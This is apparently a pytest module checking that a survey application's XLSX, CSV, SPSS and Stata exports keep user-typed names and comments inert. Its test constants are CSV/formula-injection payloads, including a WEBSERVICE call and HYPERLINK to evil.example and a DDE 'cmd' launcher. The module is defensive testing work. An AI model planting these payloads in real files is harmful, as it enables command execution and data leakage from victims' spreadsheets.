"""Texts typed by people never become live formulas in a spreadsheet (issue 19, finding 7).

Hostile round, unit, service area, element and item names and comments, written to every
export and read back with an independent reader: openpyxl's ``data_type`` (``s`` is a string,
``f`` a formula) and the raw sheet XML for XLSX; the csv module for CSV, where OWASP's rule is
that no text field may begin with = + - @ tab or CR (a quote goes in front); pyreadstat for SPSS
and Stata, whose strings and labels are inert but must come back as typed.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pyreadstat
import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from survey.extensions import db
from survey.models import DossierCount, Element, Item, Round, RoundState, utcnow
from survey.services.exports import index_tables as index_exports
from survey.services.exports import microdata as exports
from survey.services.exports.spreadsheets import FORMULA_STARTS
from survey.services.organisation.csv_files import UNITS, export_csv, read_table
from survey.services.responses.recording import AnswerValue, record_response
from survey.services.results.pages import round_results
from survey.services.rounds.dossier_counts import frame_csv, parse_dossier_csv
from survey.services.rounds.lifecycle import transition_round
from tests.factories import make_area, make_desk, make_round, make_unit

ROUND_NAME = '=HYPERLINK("http://evil.example","Bấm")'
UNIT_NAME = "=1+2 UBND phường"
AREA_NAME = "@SUM(1,2)"
ITEM_TEXT = "+cmd|' /C calc'!A0"
ELEMENT_NAME = "-2+3 Tiếp cận"
COMMENT = '=WEBSERVICE("http://evil.example")'
HOSTILE = (ROUND_NAME, UNIT_NAME, AREA_NAME, ITEM_TEXT, ELEMENT_NAME, "\tTab", "\rCR")


@pytest.fixture
def round_id(app: Flask) -> int:
    with app.app_context():
        area = make_area("HT", AREA_NAME, AREA_NAME)
        unit = make_unit("U01", UNIT_NAME, [area])
        desk = make_desk(unit, "\tQ1")
        round_ = make_round([unit], name=ROUND_NAME, state=RoundState.DRAFT)
        db.session.add(
            DossierCount(round_id=round_.id, unit_id=unit.id, service_area_id=area.id, dossiers=90)
        )
        items = {i.code: i for i in round_.template_version.items}
        items["A1"].text = ITEM_TEXT
        items["A2"].text = "\rCR"
        element = db.session.get(Element, items["A1"].element_id)
        assert element is not None
        element.name = ELEMENT_NAME
        db.session.flush()  # before opening the round freezes the questionnaire
        transition_round(round_, RoundState.OPEN, now=utcnow())
        db.session.commit()
        for n in range(40):
            answers = [AnswerValue(items[c].id, value=4 + n % 2) for c in ("A1", "A2", "B1")]
            answers.append(AnswerValue(items["Q_COMMENT"].id, text=COMMENT))
            record_response(
                round_=round_,
                desk_id=desk.id,
                unit_id=unit.id,
                service_area_id=area.id,
                answers=answers,
                idempotency_key=f"formula-cells-{n:04d}",
                now=round_.opens_at,
            )
        db.session.commit()
        return round_.id


def _round(round_id: int) -> Round:
    round_ = db.session.get(Round, round_id)
    assert round_ is not None
    return round_


def _texts_of_xlsx(path: Path | io.BytesIO) -> list[tuple[str, object, str]]:
    book = load_workbook(path)  # not read-only: keeps each cell's data_type
    found = [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    book.close()
    return found


def _assert_no_formula(path: Path | io.BytesIO, expected: tuple[str, ...]) -> None:
    texts = _texts_of_xlsx(path)
    formulas = [(sheet, value) for sheet, value, kind in texts if kind != "s"]
    assert formulas == []
    values = {str(value) for _sheet, value, _kind in texts}
    for text in expected:  # kept exactly as typed, not quoted
        assert any(text in value for value in values), text
    raw = zipfile.ZipFile(path)
    for name in raw.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in raw.read(name) and b"<f " not in raw.read(name), name


def _assert_csv_inert(data: str) -> list[list[str]]:
    table = list(csv.reader(io.StringIO(data)))
    for row in table:
        for value in row:
            # A number may be negative; any other field must not start a formula.
            if value.startswith(FORMULA_STARTS):
                float(value)
    return table


def test_response_xlsx_types_every_text_as_a_string(
    app: Flask, round_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "round.xlsx"
    with app.app_context():
        assert exports.write_xlsx(_round(round_id), path) == 40
    _assert_no_formula(path, (ROUND_NAME, UNIT_NAME, ITEM_TEXT, "\tQ1"))
    assert COMMENT not in str(_texts_of_xlsx(path))  # comments are never exported


def test_response_csv_quotes_texts_that_would_start_a_formula(app: Flask, round_id: int) -> None:
    with app.app_context():
        out = io.BytesIO()
        exports.write_csv(_round(round_id), out)
    table = _assert_csv_inert(out.getvalue().decode("utf-8-sig"))
    record = dict(zip(table[0], table[1], strict=True))
    assert record["unit_name"] == "'" + UNIT_NAME
    assert record["desk"] == "'\tQ1"
    assert record["A1"] in ("4", "5")
    assert "WEBSERVICE" not in out.getvalue().decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_spss_and_stata_keep_hostile_texts_and_labels_as_typed(
    app: Flask, round_id: int, tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"round.{fmt}"
    with app.app_context():
        getattr(exports, f"write_{fmt}")(_round(round_id), path)
    reader = pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta
    frame, meta = reader(str(path))
    assert set(frame["unit_name"]) == {UNIT_NAME}
    assert meta.column_names_to_labels["A1"] == ITEM_TEXT
    if fmt == "sav":
        assert meta.file_label == ROUND_NAME


def test_index_tables_type_every_text_as_a_string(app: Flask, round_id: int) -> None:
    with app.app_context():
        results = round_results(_round(round_id), None)
        xlsx = index_exports.xlsx_bytes(results)
        data = index_exports.csv_bytes(results).decode("utf-8-sig")
    _assert_no_formula(io.BytesIO(xlsx), (UNIT_NAME, AREA_NAME, ELEMENT_NAME, ITEM_TEXT))
    table = _assert_csv_inert(data)
    header = table[0]
    names = {row[header.index("unit_name")] for row in table[1:]}
    assert "'" + UNIT_NAME in names
    indices = {row[header.index("index_name")] for row in table[1:]}
    assert "'" + ITEM_TEXT in indices and "'" + ELEMENT_NAME in indices


def test_organisation_and_dossier_files_are_inert_and_import_back(
    app: Flask, round_id: int
) -> None:
    with app.app_context():
        units = export_csv(UNITS).decode("utf-8-sig")
        _assert_csv_inert(units)
        assert "'" + UNIT_NAME in units
        table, problems = read_table(UNITS, units.encode("utf-8-sig"))
        assert problems == [] and table is not None
        # The quote is the file's, not the name's (which the import then refuses as a
        # formula, as it always did, instead of storing a changed name).
        assert [r.values["name"] for r in table.rows] == [UNIT_NAME]

        frame = frame_csv(_round(round_id))
        _assert_csv_inert(frame.decode("utf-8-sig"))
        cells, errors = parse_dossier_csv(frame, _round(round_id))
        assert errors == [] and [c.dossiers for c in cells] == [90]
        assert db.session.scalar(select(Item.text).where(Item.code == "A1")) == ITEM_TEXT
